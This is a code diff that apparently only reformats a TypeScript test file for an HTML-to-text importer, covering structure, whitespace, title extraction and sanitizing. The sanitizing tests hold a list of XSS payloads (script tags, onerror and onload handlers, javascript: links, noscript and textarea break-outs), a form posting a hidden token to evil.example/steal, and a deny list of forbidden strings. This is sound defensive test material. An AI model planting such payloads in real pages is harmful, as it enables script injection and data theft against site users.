@@ -32,7 +32,9 @@ function expectWellFormed(content: RevisionContent) {
   }
   expect(blocks.length === 0 ? text : text.slice(previousEnd)).toBe("");
   // Plain-text import of the result finds the very same paragraphs.
-  expect(importPlainText(text).blocks.map(({ start, end }) => [start, end])).toEqual(blocks.map(({ start, end }) => [start, end]));
+  expect(importPlainText(text).blocks.map(({ start, end }) => [start, end])).toEqual(
+    blocks.map(({ start, end }) => [start, end]),
+  );
 }
 
 function escapeHtml(text: string): string {
@@ -99,7 +101,8 @@ describe("importHtml structure", () => {
   });
 
   it("gives a heading or list item inside a quote its own type, and a paragraph inside a list item the item's", () => {
-    const content = importHtml(`<blockquote><h3>Quoted heading</h3><ul><li>Quoted item</li></ul><p>Quoted text</p></blockquote>
+    const content =
+      importHtml(`<blockquote><h3>Quoted heading</h3><ul><li>Quoted item</li></ul><p>Quoted text</p></blockquote>
       <ul><li><p>Item paragraph</p></li></ul>`);
     expect(shape(content)).toEqual([
       ["heading", 3, "Quoted heading"],
@@ -125,7 +128,10 @@ describe("importHtml structure", () => {
 
   it("returns nothing for empty or text-free input", () => {
     expect(importHtml("")).toEqual({ text: "", blocks: [] });
-    expect(importHtml("<html><head><title>Only a title</title></head><body> <div></div> </body></html>")).toEqual({ text: "", blocks: [] });
+    expect(importHtml("<html><head><title>Only a title</title></head><body> <div></div> </body></html>")).toEqual({
+      text: "",
+      blocks: [],
+    });
     expect(importHtml("<script>alert(1)</script>")).toEqual({ text: "", blocks: [] });
   });
 
@@ -146,7 +152,9 @@ describe("importHtml text", () => {
       ["paragraph", "“Literal” ‘quotes’ « guillemets » — naïve Zürich 🚲🇺🇦 👩🏽‍💻 日本語"],
     ]);
     // Offsets are UTF-16 code units: the emoji count twice.
-    expect(content.blocks[1].end - content.blocks[1].start).toBe("“Literal” ‘quotes’ « guillemets » — naïve Zürich 🚲🇺🇦 👩🏽‍💻 日本語".length);
+    expect(content.blocks[1].end - content.blocks[1].start).toBe(
+      "“Literal” ‘quotes’ « guillemets » — naïve Zürich 🚲🇺🇦 👩🏽‍💻 日本語".length,
+    );
     expectWellFormed(content);
   });
 
@@ -158,7 +166,9 @@ describe("importHtml text", () => {
   });
 
   it("collapses HTML whitespace, turns no-break spaces into spaces and trims each block", () => {
-    const content = importHtml("<p>\n\t  Several   spaces,\ttabs\r\nand\n\nnewlines \u00A0&nbsp; here.  </p><p><span> a </span> <b> b </b></p>");
+    const content = importHtml(
+      "<p>\n\t  Several   spaces,\ttabs\r\nand\n\nnewlines \u00A0&nbsp; here.  </p><p><span> a </span> <b> b </b></p>",
+    );
     expect(shape(content)).toEqual([
       ["paragraph", "Several spaces, tabs and newlines here."],
       ["paragraph", "a b"],
@@ -186,7 +196,9 @@ describe("importHtml text", () => {
   });
 
   it("keeps escaped markup as the literal text it is (the result is plain text, never HTML)", () => {
-    expect(importHtml("<p>Use &lt;p&gt; for paragraphs; 1 &lt; 2 &amp;&amp; 3 &gt; 2</p>").text).toBe("Use <p> for paragraphs; 1 < 2 && 3 > 2");
+    expect(importHtml("<p>Use &lt;p&gt; for paragraphs; 1 &lt; 2 &amp;&amp; 3 &gt; 2</p>").text).toBe(
+      "Use <p> for paragraphs; 1 < 2 && 3 > 2",
+    );
   });
 
   it("strips control characters and a leading byte-order mark", () => {
@@ -226,7 +238,9 @@ describe("importHtml scope", () => {
   });
 
   it("falls back to <main>, then to the whole body", () => {
-    expect(shape(importHtml("<div>Site menu</div><main><p>Main text</p></main><div>Footer text</div>"))).toEqual([["paragraph", "Main text"]]);
+    expect(shape(importHtml("<div>Site menu</div><main><p>Main text</p></main><div>Footer text</div>"))).toEqual([
+      ["paragraph", "Main text"],
+    ]);
     expect(shape(importHtml("<body><div>Wrapper</div><p>Body text</p></body>"))).toEqual([
       ["paragraph", "Wrapper"],
       ["paragraph", "Body text"],
@@ -272,30 +286,115 @@ describe("importHtml scope", () => {
 });
 
 describe("importHtml sanitizing", () => {
-  const forbidden = ["<", "alert(", "javascript:", "onerror", "onclick", "onload", "secret", "track.example", "evil.example", "http", "src=", "href"];
+  const forbidden = [
+    "<",
+    "alert(",
+    "javascript:",
+    "onerror",
+    "onclick",
+    "onload",
+    "secret",
+    "track.example",
+    "evil.example",
+    "http",
+    "src=",
+    "href",
+  ];
 
   const cases: { name: string; html: string; expected: string }[] = [
-    { name: "script", html: "<p>Before</p><script>alert(1)</script><SCRIPT type=module>alert(2)</SCRIPT><p>After</p>", expected: "Before\n\nAfter" },
+    {
+      name: "script",
+      html: "<p>Before</p><script>alert(1)</script><SCRIPT type=module>alert(2)</SCRIPT><p>After</p>",
+      expected: "Before\n\nAfter",
+    },
     { name: "img onerror", html: "<p>Before <img src=x onerror=alert(1)> after</p>", expected: "Before after" },
-    { name: "javascript: link keeps its text", html: '<p>Read <a href="javascript:alert(1)">link text</a> now</p>', expected: "Read link text now" },
-    { name: "data: link", html: '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Click</a></p>', expected: "Click" },
-    { name: "iframe and its fallback", html: '<p>Before</p><iframe src="https://evil.example/"><p>alert(1)</p></iframe><iframe src="javascript:alert(1)"><p>After</p>', expected: "Before" },
-    { name: "style element and attribute", html: '<style>p{background:url("javascript:alert(1)")}</style><p style="background:url(javascript:alert(1))">Styled</p>', expected: "Styled" },
-    { name: "inline event handlers", html: '<p onclick="alert(1)">Click-free text</p><body onload="alert(2)"><div onmouseover="alert(3)">More</div>', expected: "Click-free text\n\nMore" },
-    { name: "form and controls", html: '<p>Body</p><form action="https://evil.example/steal"><input type="hidden" name="token" value="secret"><input value=secret><textarea>secret</textarea><select><option>secret</option></select><button onclick="alert(1)">Send</button></form>', expected: "Body" },
-    { name: "1×1 tracking pixel", html: '<p>Story<img src="https://track.example/p.gif?id=1" width="1" height="1" alt="" style="position:absolute"></p><img src="https://track.example/p2.gif" width=1 height=1>', expected: "Story" },
-    { name: "picture, video, audio", html: '<p>Media</p><picture><source srcset="https://track.example/a.webp"><img src="https://track.example/a.jpg"></picture><video src="https://track.example/v.mp4" poster="https://track.example/p.jpg">Your browser cannot play alert(1)</video><audio><track src="https://track.example/t.vtt"></audio>', expected: "Media" },
-    { name: "svg with script", html: '<p>A</p><svg onload="alert(1)"><script>alert(2)</script><foreignObject><p>alert(3)</p></foreignObject><title>alert(4)</title></svg><p>B</p>', expected: "A\n\nB" },
-    { name: "math", html: "<p>A</p><math><mtext><script>alert(1)</script></mtext><mi>alert(2)</mi></math>", expected: "A" },
-    { name: "HTML comments", html: "<p>A<!-- <script>alert(1)</script> -->B</p><!--[if IE]><script src=https://evil.example/x.js></script><![endif]--><p>C</p>", expected: "AB\n\nC" },
-    { name: "noscript", html: '<noscript><img src="https://track.example/p.gif"><p>alert(1)</p></noscript><p>Text</p>', expected: "Text" },
-    { name: "noscript mutation", html: '<p>A</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>B</p>', expected: "A\n\nB" },
+    {
+      name: "javascript: link keeps its text",
+      html: '<p>Read <a href="javascript:alert(1)">link text</a> now</p>',
+      expected: "Read link text now",
+    },
+    {
+      name: "data: link",
+      html: '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Click</a></p>',
+      expected: "Click",
+    },
+    {
+      name: "iframe and its fallback",
+      html: '<p>Before</p><iframe src="https://evil.example/"><p>alert(1)</p></iframe><iframe src="javascript:alert(1)"><p>After</p>',
+      expected: "Before",
+    },
+    {
+      name: "style element and attribute",
+      html: '<style>p{background:url("javascript:alert(1)")}</style><p style="background:url(javascript:alert(1))">Styled</p>',
+      expected: "Styled",
+    },
+    {
+      name: "inline event handlers",
+      html: '<p onclick="alert(1)">Click-free text</p><body onload="alert(2)"><div onmouseover="alert(3)">More</div>',
+      expected: "Click-free text\n\nMore",
+    },
+    {
+      name: "form and controls",
+      html: '<p>Body</p><form action="https://evil.example/steal"><input type="hidden" name="token" value="secret"><input value=secret><textarea>secret</textarea><select><option>secret</option></select><button onclick="alert(1)">Send</button></form>',
+      expected: "Body",
+    },
+    {
+      name: "1×1 tracking pixel",
+      html: '<p>Story<img src="https://track.example/p.gif?id=1" width="1" height="1" alt="" style="position:absolute"></p><img src="https://track.example/p2.gif" width=1 height=1>',
+      expected: "Story",
+    },
+    {
+      name: "picture, video, audio",
+      html: '<p>Media</p><picture><source srcset="https://track.example/a.webp"><img src="https://track.example/a.jpg"></picture><video src="https://track.example/v.mp4" poster="https://track.example/p.jpg">Your browser cannot play alert(1)</video><audio><track src="https://track.example/t.vtt"></audio>',
+      expected: "Media",
+    },
+    {
+      name: "svg with script",
+      html: '<p>A</p><svg onload="alert(1)"><script>alert(2)</script><foreignObject><p>alert(3)</p></foreignObject><title>alert(4)</title></svg><p>B</p>',
+      expected: "A\n\nB",
+    },
+    {
+      name: "math",
+      html: "<p>A</p><math><mtext><script>alert(1)</script></mtext><mi>alert(2)</mi></math>",
+      expected: "A",
+    },
+    {
+      name: "HTML comments",
+      html: "<p>A<!-- <script>alert(1)</script> -->B</p><!--[if IE]><script src=https://evil.example/x.js></script><![endif]--><p>C</p>",
+      expected: "AB\n\nC",
+    },
+    {
+      name: "noscript",
+      html: '<noscript><img src="https://track.example/p.gif"><p>alert(1)</p></noscript><p>Text</p>',
+      expected: "Text",
+    },
+    {
+      name: "noscript mutation",
+      html: '<p>A</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>B</p>',
+      expected: "A\n\nB",
+    },
     { name: "CDATA", html: "<p>Before<![CDATA[<script>alert(1)</script>]]> after</p>", expected: "Before after" },
     { name: "template", html: "<p>A</p><template><script>alert(1)</script><p>alert(2)</p></template>", expected: "A" },
-    { name: "object and embed", html: '<p>A</p><object data="https://evil.example/x.swf"><param name=x value=y>alert(1)</object><embed src="javascript:alert(2)"><applet code=x>alert(3)</applet>', expected: "A" },
-    { name: "meta refresh and base", html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><p>A</p>', expected: "A" },
-    { name: "mixed-case and malformed tags", html: '<P>A</P><ScRiPt>alert(1)</sCrIpT><img/src=x/onerror=alert(2)><script/xss>alert(3)</script><p>B', expected: "A\n\nB" },
-    { name: "textarea/title break-out", html: '<p>A</p><textarea></textarea><script>alert(1)</script></textarea><title></title><img src=x onerror=alert(2)></title><p>B</p>', expected: "A\n\nB" },
+    {
+      name: "object and embed",
+      html: '<p>A</p><object data="https://evil.example/x.swf"><param name=x value=y>alert(1)</object><embed src="javascript:alert(2)"><applet code=x>alert(3)</applet>',
+      expected: "A",
+    },
+    {
+      name: "meta refresh and base",
+      html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><p>A</p>',
+      expected: "A",
+    },
+    {
+      name: "mixed-case and malformed tags",
+      html: "<P>A</P><ScRiPt>alert(1)</sCrIpT><img/src=x/onerror=alert(2)><script/xss>alert(3)</script><p>B",
+      expected: "A\n\nB",
+    },
+    {
+      name: "textarea/title break-out",
+      html: "<p>A</p><textarea></textarea><script>alert(1)</script></textarea><title></title><img src=x onerror=alert(2)></title><p>B</p>",
+      expected: "A\n\nB",
+    },
     { name: "xmp", html: "<p>A</p><xmp><script>alert(1)</script></xmp><p>B</p>", expected: "A\n\nB" },
   ];
 
@@ -394,8 +493,14 @@ describe("importHtml on real-world input", () => {
       ["paragraph", "Engineers found corrosion in three of the bridge’s main supports"],
       ["paragraph", "By Jane Doe, transport correspondent · Thu 14 Mar 2024 09.30 GMT"],
       ["paragraph", "The bridge carries 30,000 vehicles a day. Photograph: John Smith/Agency"],
-      ["paragraph", "Repairs to the harbour bridge will cost at least £40m, the council said on Thursday, after an inspection found “significant” corrosion."],
-      ["paragraph", "The council leader, Amir Khan, told reporters: “We have no choice. The bridge is safe today, but it won’t stay safe without this work.”"],
+      [
+        "paragraph",
+        "Repairs to the harbour bridge will cost at least £40m, the council said on Thursday, after an inspection found “significant” corrosion.",
+      ],
+      [
+        "paragraph",
+        "The council leader, Amir Khan, told reporters: “We have no choice. The bridge is safe today, but it won’t stay safe without this work.”",
+      ],
       ["paragraph", "Advertisement"],
       ["heading", 2, "Years of delays"],
       ["paragraph", "Work was first proposed in 2019 but delayed twice:"],
@@ -407,7 +512,22 @@ describe("importHtml on real-world input", () => {
       ["paragraph", "This article was amended on 15 March 2024 to correct the number of supports affected."],
       ["paragraph", "Bridges"],
     ]);
-    for (const needle of ["<", "cookies", "Accept", "Sport", "Share", "Related", "Sign up", "Email", "First!", "Most read", "©", "dataLayer", "track.example", "NewsArticle"]) {
+    for (const needle of [
+      "<",
+      "cookies",
+      "Accept",
+      "Sport",
+      "Share",
+      "Related",
+      "Sign up",
+      "Email",
+      "First!",
+      "Most read",
+      "©",
+      "dataLayer",
+      "track.example",
+      "NewsArticle",
+    ]) {
       expect(content.text).not.toContain(needle);
     }
     expectWellFormed(content);
@@ -416,7 +536,8 @@ describe("importHtml on real-world input", () => {
 
   it("imports ~1.5 MB of paragraphs", () => {
     const count = 10_000;
-    const paragraph = (i: number) => `Paragraph ${i}: “quoted” words, café & 🚲 — ${"lorem ipsum dolor sit amet ".repeat(4)}end.`;
+    const paragraph = (i: number) =>
+      `Paragraph ${i}: “quoted” words, café & 🚲 — ${"lorem ipsum dolor sit amet ".repeat(4)}end.`;
     const html = `<html><body><article>${Array.from({ length: count }, (_, i) => `<p class="p">\n  ${escapeHtml(paragraph(i))}\n</p>`).join("\n")}</article></body></html>`;
     expect(html.length).toBeGreaterThan(1_500_000);
     const content = importHtml(html);
@@ -430,7 +551,8 @@ describe("importHtml on real-world input", () => {
 
   it("survives pathologically deep nesting", () => {
     const depth = 5_000;
-    const html = "<div>".repeat(depth) + "<p>Deep</p><script>alert(1)</script>" + "</div>".repeat(depth) + "<p>After</p>";
+    const html =
+      "<div>".repeat(depth) + "<p>Deep</p><script>alert(1)</script>" + "</div>".repeat(depth) + "<p>After</p>";
     const content = importHtml(html);
     expect(content.text).toBe("Deep\n\nAfter");
   });
@@ -438,19 +560,33 @@ describe("importHtml on real-world input", () => {
 
 describe("extractHtmlTitle", () => {
   it("takes the first <h1> of the article", () => {
-    expect(extractHtmlTitle("<title>Page</title><h1>Outside</h1><article><h2>Kicker</h2><h1>The  <em>real</em><br>headline</h1><h1>Second</h1></article>")).toBe(
-      "The real headline",
-    );
+    expect(
+      extractHtmlTitle(
+        "<title>Page</title><h1>Outside</h1><article><h2>Kicker</h2><h1>The  <em>real</em><br>headline</h1><h1>Second</h1></article>",
+      ),
+    ).toBe("The real headline");
   });
 
   it("falls back to <title>, then og:title", () => {
-    expect(extractHtmlTitle("<html><head><title> Page &amp; title </title><meta property='og:title' content='OG'></head><body><p>x</p></body></html>")).toBe("Page & title");
-    expect(extractHtmlTitle('<html><head><meta property="og:title" content="Open &quot;Graph&quot; title"></head><body><h2>Not a title</h2></body></html>')).toBe('Open "Graph" title');
+    expect(
+      extractHtmlTitle(
+        "<html><head><title> Page &amp; title </title><meta property='og:title' content='OG'></head><body><p>x</p></body></html>",
+      ),
+    ).toBe("Page & title");
+    expect(
+      extractHtmlTitle(
+        '<html><head><meta property="og:title" content="Open &quot;Graph&quot; title"></head><body><h2>Not a title</h2></body></html>',
+      ),
+    ).toBe('Open "Graph" title');
     expect(extractHtmlTitle('<meta name="OG:TITLE" content="By name">')).toBe("By name");
   });
 
   it("ignores a page-level site logo <h1>, <svg> titles and empty titles", () => {
-    expect(extractHtmlTitle("<svg><title>Icon</title></svg><title>Real</title><header><h1>Site name</h1></header><p>Text</p>")).toBe("Real");
+    expect(
+      extractHtmlTitle(
+        "<svg><title>Icon</title></svg><title>Real</title><header><h1>Site name</h1></header><p>Text</p>",
+      ),
+    ).toBe("Real");
     expect(extractHtmlTitle("<title>  </title><p>No title here</p>")).toBeUndefined();
     expect(extractHtmlTitle("")).toBeUndefined();
   });
@@ -470,7 +606,14 @@ describe("looksLikeHtml", () => {
     expect(looksLikeHtml(input)).toBe(true);
   });
 
-  it.each(["Plain text\n\nwith paragraphs", "if a < b and c > d", "Write to <jane@example.com>", "I <3 this", "<paragraph> is not a tag", ""])("rejects %j", (input) => {
+  it.each([
+    "Plain text\n\nwith paragraphs",
+    "if a < b and c > d",
+    "Write to <jane@example.com>",
+    "I <3 this",
+    "<paragraph> is not a tag",
+    "",
+  ])("rejects %j", (input) => {
     expect(looksLikeHtml(input)).toBe(false);
   });
 });
